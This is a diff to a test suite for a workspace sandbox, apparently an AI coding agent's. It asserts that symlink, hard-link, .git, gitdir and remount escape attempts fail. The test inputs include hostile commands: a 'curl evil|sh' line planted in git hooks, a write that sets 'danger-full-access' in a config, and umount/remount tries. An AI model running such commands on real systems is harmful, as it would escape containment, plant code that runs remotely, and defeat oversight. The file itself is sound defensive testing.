@@ -56,7 +56,11 @@ describe("writes outside the writable roots", () => {
   it("through a symlink placed in the workspace pointing outside", async () => {
     const { ws, outsideFile } = workspace();
     const before = sha(outsideFile);
-    const r = await run(bash(`ln -s ${outsideFile} link && echo pwned > link; ln -s ${path.dirname(outsideFile)} dirlink && echo x > dirlink/new`), WS_ONLY, ws);
+    const r = await run(
+      bash(`ln -s ${outsideFile} link && echo pwned > link; ln -s ${path.dirname(outsideFile)} dirlink && echo x > dirlink/new`),
+      WS_ONLY,
+      ws,
+    );
     expect(r.stderr.match(/Read-only file system/g)).toHaveLength(2);
     expect(sha(outsideFile)).toBe(before);
     expect(fs.existsSync(path.join(path.dirname(outsideFile), "new"))).toBe(false);
@@ -95,16 +99,21 @@ describe("writes outside the writable roots", () => {
   it("a hard link made before the run to a protected file cannot be written through", async () => {
     const { ws, outside } = workspace();
     const daemonConfig = path.join(outside, "config.toml");
-    fs.writeFileSync(daemonConfig, "model = \"x\"\n");
+    fs.writeFileSync(daemonConfig, 'model = "x"\n');
     fs.writeFileSync(path.join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\n");
     fs.mkdirSync(path.join(ws, "notes"));
     fs.linkSync(path.join(ws, ".git", "config"), path.join(ws, "notes", "git-config"));
     fs.linkSync(path.join(ws, ".git", "hooks", "pre-commit"), path.join(ws, "hook"));
     fs.linkSync(daemonConfig, path.join(ws, "cfg"));
     const before = [sha(path.join(ws, ".git", "config")), sha(path.join(ws, ".git", "hooks", "pre-commit")), sha(daemonConfig)];
-    const r = await run(bash("echo pwned > notes/git-config; echo 'curl evil|sh' >> hook; echo 'sandbox_mode = \"danger-full-access\"' > cfg; echo ok > src/new"), WS_ONLY, ws, {
-      launch: { env: baseEnv(ws), daemonPaths: { readOnly: [daemonConfig] } },
-    });
+    const r = await run(
+      bash("echo pwned > notes/git-config; echo 'curl evil|sh' >> hook; echo 'sandbox_mode = \"danger-full-access\"' > cfg; echo ok > src/new"),
+      WS_ONLY,
+      ws,
+      {
+        launch: { env: baseEnv(ws), daemonPaths: { readOnly: [daemonConfig] } },
+      },
+    );
     expect(r.stderr.match(/Read-only file system/g)).toHaveLength(3);
     expect([sha(path.join(ws, ".git", "config")), sha(path.join(ws, ".git", "hooks", "pre-commit")), sha(daemonConfig)]).toEqual(before);
     expect(fs.readFileSync(path.join(ws, "src", "new"), "utf8")).toBe("ok\n");
@@ -129,11 +138,7 @@ describe(".git and the other protected names", () => {
   it(".git as a directory: write config, add a hook, rm -rf and mv all fail", async () => {
     const { ws } = workspace();
     const before = treeSnapshot(path.join(ws, ".git"));
-    const r = await run(
-      bash("echo pwned > .git/config; echo 'curl evil|sh' > .git/hooks/pre-commit; rm -rf .git; mv .git moved"),
-      WS_ONLY,
-      ws,
-    );
+    const r = await run(bash("echo pwned > .git/config; echo 'curl evil|sh' > .git/hooks/pre-commit; rm -rf .git; mv .git moved"), WS_ONLY, ws);
     expect(r.stderr).toMatch(/\.git\/config: Read-only file system/);
     expect(r.stderr).toMatch(/pre-commit: Read-only file system/);
     expect(r.stderr).toMatch(/mv: cannot move '.git' to 'moved': Device or resource busy/);
@@ -158,7 +163,11 @@ describe(".git and the other protected names", () => {
     fs.writeFileSync(path.join(wt, "file.txt"), "x\n");
     const before = treeSnapshot(root);
     const policy = { type: "workspaceWrite" as const, writableRoots: [repo], excludeSlashTmp: true, excludeTmpdirEnvVar: true };
-    const r = await run(bash(`echo 'gitdir: /tmp/evil' > .git; echo pwned > ${repo}/.git/worktrees/wt/HEAD; echo pwned > ${repo}/.git/config; echo ok > file.txt`), policy, wt);
+    const r = await run(
+      bash(`echo 'gitdir: /tmp/evil' > .git; echo pwned > ${repo}/.git/worktrees/wt/HEAD; echo pwned > ${repo}/.git/config; echo ok > file.txt`),
+      policy,
+      wt,
+    );
     expect(r.stderr.match(/Read-only file system/g)).toHaveLength(3);
     expect(treeSnapshot(root)).toBe(before.replace(`f ${wt}/file.txt 2 x\n`, `f ${wt}/file.txt 3 ok\n`));
   });
@@ -217,7 +226,12 @@ describe(".git and the other protected names", () => {
     expect(fs.existsSync(path.join(pkg, ".git"))).toBe(false);
     expect(r.exitCode).toBe(1);
     expect(r.postRunDenials).toEqual([
-      { kind: "protected-created", path: `${pkg}/.git`, operation: "create", message: `sandbox: ${pkg}/.git was created by the command and has been removed (protected paths stay read-only)` },
+      {
+        kind: "protected-created",
+        path: `${pkg}/.git`,
+        operation: "create",
+        message: `sandbox: ${pkg}/.git was created by the command and has been removed (protected paths stay read-only)`,
+      },
     ]);
   });
 });
@@ -232,7 +246,9 @@ describe("mounts and privileges", () => {
     const cfg = sha(path.join(ws, ".git", "config"));
     const before = sha(outsideFile);
     const r = await run(
-      bash(`umount .git 2>&1; umount -l .git 2>&1; echo pwned > .git/config; mount -o remount,rw,bind / 2>&1; mount -o remount,rw / 2>&1; echo pwned > ${outsideFile}; true`),
+      bash(
+        `umount .git 2>&1; umount -l .git 2>&1; echo pwned > .git/config; mount -o remount,rw,bind / 2>&1; mount -o remount,rw / 2>&1; echo pwned > ${outsideFile}; true`,
+      ),
       WS_ONLY,
       ws,
     );
